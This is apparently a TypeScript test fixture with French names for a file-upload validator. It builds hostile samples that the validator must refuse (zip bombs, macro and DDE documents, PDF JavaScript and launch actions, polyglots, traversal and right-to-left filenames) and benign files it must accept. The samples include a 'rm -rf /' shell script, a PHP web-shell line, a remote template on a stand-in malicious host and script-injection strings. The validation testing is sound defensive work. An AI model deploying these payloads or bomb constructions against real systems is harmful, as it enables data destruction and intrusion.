import { gzipSync } from 'node:zlib';
import { docx, flux, jpeg, octets, odf, ole, pdf, png, programme, TYPE_DOCX, xlsx, zip, type EntreeDeZip } from './fichiers-hostiles.js';

/** A file that must be refused: what it is, its name, its bytes, and words its reason must have. */
export interface Hostile { readonly quoi: string; readonly nom: string; readonly contenu: Buffer | Blob; readonly raison: RegExp }

export const RAISONS = {
  vide: /est vide/, tropGrand: /dépasse 1(,0)?.Mo/, inconnu: /seuls les fichiers PDF/, pageWeb: /page web/, programme: /est un programme/, archive: /est une archive/, macros: /contient des macros/,
  motDePasse: /protégé par un mot de passe/, bombe: /place démesurée/, autreChose: /autre chose que ce qu’il annonce/, abime: /incomplet ou abîmé/, structure: /structure n’a pas pu être vérifiée/,
  actif: /scripts ou des actions automatiques/, incorpore: /autre fichier en pièce jointe/, extension: /son contenu est de type/, geante: /120 millions de points/, ancien: /ancien format/,
};

const R = RAISONS;
const rouler = (a: Buffer, ...b: Buffer[]): Buffer => Buffer.concat([a, ...b]);
const ZEROS = Buffer.alloc(12 << 20);
const ELF = rouler(Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(60));

function chevauchement(): Buffer {
  // The way of Fifield's bombs: many entries of the directory lead to the same bytes.
  const noyau: EntreeDeZip = { nom: 'a', contenu: Buffer.alloc(100_000) };
  return zip([{ nom: '[Content_Types].xml', contenu: 'x' }, noyau, ...Array.from({ length: 50 }, (_, i): EntreeDeZip => ({ ...noyau, nom: `a${i}`, entete: 50 }))]);
}

/** The first published quine of its kind: a zip that holds itself; here, its head and what matters of it. */
const poupee = (profondeur: number): Buffer => docx(profondeur === 0 ? [] : [{ nom: 'word/embeddings/x.docx', contenu: poupee(profondeur - 1) }]);

const ZIPS: readonly Hostile[] = [
  { quoi: 'a plain zip', nom: 'pieces.pdf', contenu: zip([{ nom: 'a.txt', contenu: 'x' }]), raison: R.archive },
  { quoi: 'a zip named as such', nom: 'pieces.zip', contenu: zip([{ nom: 'a.txt', contenu: 'x' }]), raison: R.archive },
  { quoi: 'an empty zip', nom: 'vide.docx', contenu: zip([]), raison: R.archive },
  { quoi: 'a rar', nom: 'pieces.docx', contenu: octets('Rar!\u001a\u0007\u0001\u0000abcdef'), raison: R.archive },
  { quoi: 'a 7z', nom: 'pieces.pdf', contenu: octets('7z\u00bc\u00af\u0027\u001c\u0000\u0004xx'), raison: R.archive },
  { quoi: 'a gzip', nom: 'pieces.pdf', contenu: gzipSync('x'), raison: R.archive },
  { quoi: 'a tar', nom: 'pieces.pdf', contenu: rouler(Buffer.alloc(257, 65), octets('ustar\u000000'), Buffer.alloc(300)), raison: R.archive },
  { quoi: 'a Java archive', nom: 'pieces.jar', contenu: zip([{ nom: 'META-INF/MANIFEST.MF', contenu: 'x' }]), raison: R.programme },
  { quoi: 'a document with a ratio of a bomb', nom: 'bombe.docx', contenu: docx([{ nom: 'word/media/x.bin', contenu: ZEROS }]), raison: R.bombe },
  { quoi: 'a directory that promises gigabytes', nom: 'bombe.xlsx', contenu: xlsx([{ nom: 'xl/a.xml', contenu: 'x', taille: 0xfffffff0 }]), raison: R.bombe },
  { quoi: 'a file that announces less than it inflates to', nom: 'menteur.docx', contenu: docx([{ nom: 'word/a.xml', contenu: Buffer.alloc(500_000, 97), taille: 10 }]), raison: R.bombe },
  { quoi: 'overlapping files', nom: 'chevauche.docx', contenu: chevauchement(), raison: R.bombe },
  { quoi: 'five thousand files', nom: 'foule.docx', contenu: docx(Array.from({ length: 5000 }, (_, i) => ({ nom: `word/${i}.xml`, contenu: '' }))), raison: R.bombe },
  { quoi: 'documents nested four deep', nom: 'poupee.docx', contenu: poupee(4), raison: R.bombe },
  { quoi: 'a zip in a document', nom: 'cache.docx', contenu: docx([{ nom: 'word/media/image1.png', contenu: zip([{ nom: 'a', contenu: 'x' }]) }]), raison: R.archive },
  { quoi: 'a zip with a password', nom: 'secret.docx', contenu: docx([{ nom: 'word/a.xml', contenu: 'x', drapeaux: 1 }]), raison: R.motDePasse },
  { quoi: 'a truncated document', nom: 'coupe.docx', contenu: docx().subarray(0, 300), raison: R.abime },
  { quoi: 'a wrong checksum', nom: 'faux.docx', contenu: docx([{ nom: 'word/a.xml', contenu: 'abc', crc: 1 }]), raison: R.abime },
  { quoi: 'a traversal inside', nom: 'sortie.docx', contenu: docx([{ nom: '../../etc/cron.d/x', contenu: 'x' }]), raison: R.structure },
  { quoi: 'two files of one name', nom: 'double.docx', contenu: docx([{ nom: 'word/document.xml', contenu: 'x' }]), raison: R.structure },
];

const BUREAUTIQUE: readonly Hostile[] = [
  { quoi: 'Word macros', nom: 'macros.docx', contenu: docx([{ nom: 'word/vbaProject.bin', contenu: 'x' }]), raison: R.macros },
  { quoi: 'a macro-enabled type', nom: 'macros.docx', contenu: docx([], { type: 'x', autres: '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>' }), raison: R.macros },
  { quoi: 'a .docm', nom: 'macros.docm', contenu: docx(), raison: R.macros },
  { quoi: 'a .xlsm', nom: 'macros.xlsm', contenu: xlsx(), raison: R.macros },
  { quoi: 'Excel 4 macro sheets', nom: 'macros.xlsx', contenu: xlsx([{ nom: 'xl/macrosheets/sheet1.xml', contenu: '<x/>' }]), raison: R.macros },
  { quoi: 'ActiveX', nom: 'activex.docx', contenu: docx([{ nom: 'word/activeX/activeX1.bin', contenu: 'x' }]), raison: R.macros },
  { quoi: 'a DDE link', nom: 'dde.xlsx', contenu: xlsx([{ nom: 'xl/externalLinks/externalLink1.xml', contenu: '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }]), raison: R.macros },
  { quoi: 'a DDE link in UTF-16', nom: 'dde.xlsx', contenu: xlsx([{ nom: 'xl/externalLinks/externalLink1.xml', contenu: Buffer.from('<externalLink><ddeLink ddeService="cmd"/></externalLink>', 'utf16le') }]), raison: R.macros },
  { quoi: 'a template fetched from the Internet', nom: 'modele.docx', contenu: docx([{ nom: 'word/_rels/settings.xml.rels', contenu: '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://mal.example/a.dotm" TargetMode="External"/>' }]), raison: R.macros },
  { quoi: 'entities of a billion laughs', nom: 'rires.docx', contenu: docx([{ nom: 'word/a.xml', contenu: '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>' }]), raison: R.macros },
  { quoi: 'types written with entities', nom: 'types.docx', contenu: docx([], { autres: '<Override PartName="/a" ContentType="application/vnd.ms-word.document.macro&#69;nabled"/>' }), raison: R.structure },
  { quoi: 'a program in an object', nom: 'objet.docx', contenu: docx([{ nom: 'word/embeddings/oleObject1.bin', contenu: ole('\u0001Ole10Native') }]), raison: R.incorpore },
  { quoi: 'a program in a document', nom: 'prog.docx', contenu: docx([{ nom: 'word/media/image1.bin', contenu: programme() }]), raison: R.programme },
  { quoi: 'a nested workbook with macros', nom: 'nid.docx', contenu: docx([{ nom: 'word/embeddings/a.xlsx', contenu: xlsx([{ nom: 'xl/vbaProject.bin', contenu: 'x' }]) }]), raison: R.macros },
  { quoi: 'a presentation', nom: 'diapos.pptx', contenu: docx([], { type: 'presentationml.presentation.main+xml' }), raison: R.inconnu },
  { quoi: 'two documents in one', nom: 'deux.docx', contenu: docx([], { autres: `<Override PartName="/b" ContentType="${TYPE_DOCX}"/><Override PartName="/c" ContentType="spreadsheetml.sheet.main+xml"/>` }), raison: R.structure },
  { quoi: 'OpenDocument Basic', nom: 'macros.odt', contenu: odf('text', [{ nom: 'Basic/Standard/Module1.xml', contenu: '<x/>' }]), raison: R.macros },
  { quoi: 'OpenDocument scripts', nom: 'macros.ods', contenu: odf('spreadsheet', [{ nom: 'Scripts/python/a.xml', contenu: 'x' }]), raison: R.macros },
  { quoi: 'an OpenDocument event that runs a script', nom: 'evenement.odt', contenu: odf('text', [{ nom: 'styles.xml', contenu: '<a xlink:href="vnd.sun.star.script:../../x.py$y"/>' }]), raison: R.macros },
  { quoi: 'an encrypted OpenDocument', nom: 'secret.odt', contenu: odf('text', [], '<manifest:encryption-data/>'), raison: R.motDePasse },
  { quoi: 'an encrypted Office document', nom: 'secret.xlsx', contenu: ole('EncryptionInfo', 'EncryptedPackage'), raison: R.motDePasse },
  { quoi: 'an old Word document', nom: 'ancien.doc', contenu: ole('WordDocument'), raison: R.ancien },
  { quoi: 'a spreadsheet named as a text', nom: 'tableau.docx', contenu: xlsx(), raison: R.extension },
];

const PDF: readonly Hostile[] = [
  { quoi: 'a script', nom: 'js.pdf', contenu: pdf({ racine: '/OpenAction<</S/JavaScript/JS(app.alert(1))>>' }), raison: R.actif },
  { quoi: 'a script whose name is disguised', nom: 'js.pdf', contenu: pdf({ racine: '/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>' }), raison: R.actif },
  { quoi: 'a script in an object stream', nom: 'js.pdf', contenu: pdf({ objets: flux(9, '/Type/ObjStm/N 1/First 4', '8 0 <</S /JavaScript /JS (x)>>') }), raison: R.actif },
  { quoi: 'a script in an object stream without its type', nom: 'js.pdf', contenu: pdf({ objets: flux(9, '/N 1/First 4', '8 0 <</S /JavaScript /JS (x)>>') }), raison: R.actif },
  { quoi: 'an indirect script', nom: 'js.pdf', contenu: pdf({ objets: '8 0 obj/JavaScript endobj\n' }), raison: R.actif },
  { quoi: 'a program to launch', nom: 'lance.pdf', contenu: pdf({ racine: '/OpenAction<</S /Launch /F (cmd.exe)>>' }), raison: R.actif },
  { quoi: 'an object stream that cannot be judged', nom: 'filtre.pdf', contenu: pdf({ objets: '9 0 obj<</Type/ObjStm/N 1/First 4/Filter/LZWDecode>>stream\nabc\nendstream endobj\n' }), raison: R.structure },
  { quoi: 'an object stream that is a bomb', nom: 'bombe.pdf', contenu: pdf({ objets: flux(9, '/Type/ObjStm/N 1/First 4', Buffer.alloc(20 << 20)) }), raison: R.bombe },
  { quoi: 'an embedded program', nom: 'joint.pdf', contenu: pdf({ racine: '/Names<</EmbeddedFiles 7 0 R>>', objets: `6 0 obj<</Type/Filespec/F(x.exe)/EF<</F 5 0 R>>>>endobj\n${flux(5, '/Type/EmbeddedFile', 'MZ')}` }), raison: R.incorpore },
  { quoi: 'an embedded file that hides', nom: 'joint.pdf', contenu: pdf({ objets: flux(9, '/Type/ObjStm/N 1/First 4', '6 0 <</Type/Filespec/F(x.exe)/EF<</F 5 0 R>>>>') }), raison: R.incorpore },
  { quoi: 'a web page passed as an invoice', nom: 'facture.pdf', contenu: pdf({ objets: `6 0 obj<</EF<</F 5 0 R>>>>endobj\n${flux(5, '/Type/EmbeddedFile', '<?xml version="1.0"?><rsm:CrossIndustryInvoice><script>1</script></rsm:CrossIndustryInvoice>')}` }), raison: R.incorpore },
  { quoi: 'a password', nom: 'secret.pdf', contenu: pdf({ fin: '/Encrypt 4 0 R' }), raison: R.motDePasse },
  { quoi: 'a password in a cross-reference stream', nom: 'secret.pdf', contenu: pdf({ objets: '9 0 obj<</Type/XRef/Root 1 0 R/Encrypt<</Filter/Standard>>>>stream\nx\nendstream endobj\n' }), raison: R.motDePasse },
  { quoi: 'a truncated PDF', nom: 'coupe.pdf', contenu: pdf().subarray(0, 150), raison: R.abime },
  { quoi: 'a header and nothing else', nom: 'creux.pdf', contenu: octets('%PDF-1.4\n%%EOF\n'), raison: R.abime },
];

const LONGS: readonly Hostile[] = [
  { quoi: 'a hundred thousand object streams', nom: 'foule.pdf', contenu: pdf({ objets: '/First '.repeat(120_000) }), raison: R.structure },
  { quoi: 'a hundred thousand dictionaries of files', nom: 'foule.pdf', contenu: pdf({ objets: '/EF<</F 5 0 R '.repeat(60_000) }), raison: R.incorpore },
  { quoi: 'a JPEG of empty segments', nom: 'vide.jpg', contenu: rouler(Buffer.from('ffd8', 'hex'), Buffer.from('ffe00002'.repeat(200_000), 'hex')), raison: R.abime },
  { quoi: 'a JPEG of nothing but markers', nom: 'marques.jpg', contenu: rouler(Buffer.from('ffd8', 'hex'), Buffer.alloc(900_000, 0xff)), raison: R.abime },
];

const POLYGLOTTES: readonly Hostile[] = [
  { quoi: 'a PDF that starts later', nom: 'tard.pdf', contenu: rouler(octets('GIF89a;\n'), pdf()), raison: R.autreChose },
  { quoi: 'a PDF followed by a zip', nom: 'suivi.pdf', contenu: rouler(pdf(), zip([{ nom: 'a.exe', contenu: 'x' }])), raison: R.autreChose },
  { quoi: 'a PDF followed by a zip whose comment ends a PDF', nom: 'suivi.pdf', contenu: rouler(pdf(), zip([{ nom: 'a.exe', contenu: 'x' }], { commentaire: '\n%%EOF\n' })), raison: R.autreChose },
  { quoi: 'a PDF that is a web page', nom: 'page.pdf', contenu: pdf({ tete: '%<html><script>alert(1)</script>\n' }), raison: R.autreChose },
  { quoi: 'a document that starts with a PDF', nom: 'deux.docx', contenu: zip([{ nom: '[Content_Types].xml', contenu: 'x' }], { avant: pdf() }), raison: /autre chose|de type PDF/ },
  { quoi: 'a document followed by something', nom: 'suivi.docx', contenu: rouler(docx(), octets('<script>1</script>')), raison: R.autreChose },
  { quoi: 'a document whose comment is a page', nom: 'suivi.odt', contenu: rouler(odf('text').subarray(0, -2), octets('\u0009\u0000<script>')), raison: R.autreChose },
  { quoi: 'a JPEG followed by a zip', nom: 'photo.jpg', contenu: rouler(jpeg(), zip([{ nom: 'a.js', contenu: 'x' }])), raison: R.autreChose },
  { quoi: 'a JPEG that is a web page', nom: 'photo.jpg', contenu: jpeg({ commentaire: '<html><script>alert(1)</script>' }), raison: R.autreChose },
  { quoi: 'a JPEG that is a PDF', nom: 'photo.jpg', contenu: jpeg({ commentaire: '%PDF-1.7 trailer' }), raison: R.autreChose },
  { quoi: 'a PNG followed by a program', nom: 'logo.png', contenu: rouler(png(), programme()), raison: R.autreChose },
  { quoi: 'a PNG that is a script', nom: 'logo.png', contenu: png({ texte: '<?php system($_GET[0]);' }), raison: R.autreChose },
];

const AUTRES: readonly Hostile[] = [
  { quoi: 'nothing', nom: 'vide.pdf', contenu: Buffer.alloc(0), raison: R.vide },
  { quoi: 'zero bytes only', nom: 'zeros.pdf', contenu: Buffer.alloc(4096), raison: R.inconnu },
  { quoi: 'plain text', nom: 'notes.txt', contenu: octets('bonjour'), raison: R.inconnu },
  { quoi: 'text named as a PDF', nom: 'statuts.pdf', contenu: octets('bonjour'), raison: R.inconnu },
  { quoi: 'a Windows program', nom: 'facture.exe', contenu: programme(), raison: R.programme },
  { quoi: 'a Windows program named as a PDF', nom: 'facture.pdf', contenu: programme(), raison: R.programme },
  { quoi: 'a Linux program', nom: 'facture.pdf', contenu: ELF, raison: R.programme },
  { quoi: 'a shell script', nom: 'facture.pdf', contenu: octets('#!/bin/sh\nrm -rf /\n'), raison: R.programme },
  { quoi: 'a batch file', nom: 'facture.bat', contenu: octets('@echo off\r\n'), raison: R.programme },
  { quoi: 'a PDF named as a program', nom: 'facture.pdf.exe', contenu: pdf(), raison: R.programme },
  { quoi: 'a PDF named as a program, with a final dot', nom: 'facture.pdf.exe. ', contenu: pdf(), raison: R.programme },
  { quoi: 'an SVG', nom: 'logo.svg', contenu: octets('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), raison: R.pageWeb },
  { quoi: 'an SVG named as a PNG', nom: 'logo.png', contenu: octets('<?xml version="1.0"?>\n<!-- x -->\n<svg onload="alert(1)"/>'), raison: R.pageWeb },
  { quoi: 'a web page named as a PDF', nom: 'page.pdf', contenu: octets('<!DOCTYPE html><script>alert(1)</script>'), raison: R.pageWeb },
  { quoi: 'a web page as a web page', nom: 'page.html', contenu: octets('<p>x</p>'), raison: R.pageWeb },
  { quoi: 'a PNG named as a PDF', nom: 'scan.pdf', contenu: png(), raison: /de type PNG, pas PDF/ },
  { quoi: 'a photo of a telephone in HEIC', nom: 'IMG_001.heic', contenu: rouler(Buffer.from([0, 0, 0, 24]), octets('ftypheic\0\0\0\0mif1heic'), Buffer.alloc(64)), raison: /HEIC/ },
  { quoi: 'a GIF', nom: 'anime.gif', contenu: rouler(octets('GIF89a'), Buffer.alloc(32)), raison: /de type GIF/ },
  { quoi: 'a picture of a gigapixel', nom: 'geante.png', contenu: png({ largeur: 60_000, hauteur: 60_000 }), raison: R.geante },
  { quoi: 'a truncated PNG', nom: 'coupe.png', contenu: png().subarray(0, 50), raison: R.abime },
  { quoi: 'a truncated JPEG', nom: 'coupe.jpg', contenu: jpeg().subarray(0, -2), raison: R.abime },
  { quoi: 'a file above the limit', nom: 'gros.pdf', contenu: rouler(octets('%PDF-1.7\n'), Buffer.alloc(1_100_000, 32)), raison: R.tropGrand },
  { quoi: 'a name that reads backwards', nom: 'facture\u202Efdp.exe', contenu: pdf(), raison: /ordre de lecture/ },
  { quoi: 'a good file whose name reads backwards', nom: 'exe.\u202Efdp.pdf', contenu: pdf(), raison: /ordre de lecture/ },
  { quoi: 'a name isolated both ways', nom: 'a\u2067b.pdf', contenu: pdf(), raison: /ordre de lecture/ },
  { quoi: 'a name that climbs', nom: '../../../../etc/passwd.pdf', contenu: pdf(), raison: /chemin de dossiers/ },
  { quoi: 'a name that climbs in Windows', nom: '..\\..\\windows\\system32\\x.pdf', contenu: pdf(), raison: /chemin de dossiers/ },
  { quoi: 'a name of several lines', nom: 'a\r\nSet-Cookie: x=1.pdf', contenu: pdf(), raison: /caractères de contrôle/ },
  { quoi: 'a name of 5 000 letters', nom: `${'a'.repeat(5000)}.pdf`, contenu: pdf(), raison: /dépasse 255 caractères/ },
];

/** Everything that must be refused, each with its reason. */
export const HOSTILES: readonly Hostile[] = [...ZIPS, ...BUREAUTIQUE, ...PDF, ...LONGS, ...POLYGLOTTES, ...AUTRES];

const FACTURE = '<?xml version="1.0" encoding="UTF-8"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"/>';

/** Everyday files, which must all be taken. */
export const HONNETES: readonly { readonly nom: string; readonly contenu: Buffer }[] = [
  { nom: 'statuts.pdf', contenu: pdf() },
  { nom: 'STATUTS signés (2).PDF', contenu: pdf({ objets: '% deux\n' }) },
  { nom: 'objets.pdf', contenu: pdf({ objets: flux(9, '/Type/ObjStm/N 1/First 4', '8 0 <</Title (HTML/JavaScript)>>') }) },
  { nom: 'cv.pdf', contenu: pdf({ objets: '8 0 obj<</Title(Cours HTML/JavaScript)/First 3 0 R>>endobj\n' }) },
  { nom: 'factur-x.pdf', contenu: pdf({ racine: '/Names<</EmbeddedFiles<</Names[(factur-x.xml)6 0 R]>>>>', objets: `6 0 obj<</Type/Filespec/F(factur-x.xml)/EF<</F 5 0 R/UF 5 0 R>>>>endobj\n${flux(5, '/Type/EmbeddedFile/Subtype/text#2Fxml', FACTURE)}` }) },
  { nom: 'scan.jpeg', contenu: jpeg() },
  { nom: 'telephone.jpg', contenu: rouler(jpeg({ commentaire: 'x' }), Buffer.alloc(16), jpeg()) },
  { nom: 'capture.png', contenu: png() },
  { nom: 'lettre.docx', contenu: docx() },
  { nom: 'graphique.docx', contenu: docx([{ nom: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx', contenu: xlsx() }, { nom: 'word/media/image1.png', contenu: png(), stocke: true }]) },
  { nom: 'budget.xlsx', contenu: xlsx([{ nom: 'xl/worksheets/sheet1.xml', contenu: `<worksheet>${'<row><c r="A1" s="1"/><v>12,5</v></row>'.repeat(5000)}</worksheet>` }]) },
  { nom: 'lettre.odt', contenu: odf('text', [{ nom: 'Configurations2/', contenu: '', stocke: true }]) },
  { nom: 'budget.ods', contenu: odf('spreadsheet') },
  { nom: 'sans extension', contenu: pdf({ objets: '% sans\n' }) },
  { nom: `${'long '.repeat(45)}nom.pdf`, contenu: pdf({ objets: '% long\n' }) },
];
